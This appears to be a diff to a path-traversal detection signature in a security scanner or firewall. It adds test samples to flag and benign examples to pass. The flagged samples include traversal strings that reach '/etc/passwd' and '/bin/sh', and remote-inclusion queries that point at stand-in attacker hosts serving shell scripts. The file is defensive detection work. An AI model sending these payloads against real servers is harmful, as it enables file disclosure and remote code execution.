@@ -7,7 +7,7 @@ import type { Finding, Signature } from '../signature.ts';
 
 const PATH_MARKS = marksOf('./\\%');
 /** What a text without any of them has to hold: dots as numbers, or the stream of a file. */
-const BARE = ['0x2', '::$'];
+const BARE = ['0x2', '0x5c', ':$'];
 /** An address inside of XML is rather read by the XML processor: leave the first place to that. */
 const MOST_IN_XML = 0.85;
 
@@ -33,6 +33,10 @@ export const pathTraversal: Signature = {
       '\\\\10.0.0.7\\c$\\boot.ini',
       'WEB-INF/web.xml',
       'web.config::$DATA',
+      '/var/www/html/config.php',
+      "include('/etc/passwd')",
+      { query: 'item=http://203.0.113.9/shell.txt?' },
+      { query: 'template=https://attacker.example/a.php' },
       { path: '/.git/config' },
       { path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
       { path: '/assets/..%5c..%5c..%5cboot.ini' },
@@ -48,6 +52,9 @@ export const pathTraversal: Signature = {
       'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==',
       'and/or',
       '12.03.2024 .. 14.03.2024',
+      'https://example.com/index.php?',
+      'https://example.com/photo.jpg?w=200',
+      { query: 'url=https://example.com/page.php' },
       { path: '/images/../style.css' },
       { path: '/blog/etc/passwords' },
       { path: '/etc/designs/site/main.css' },
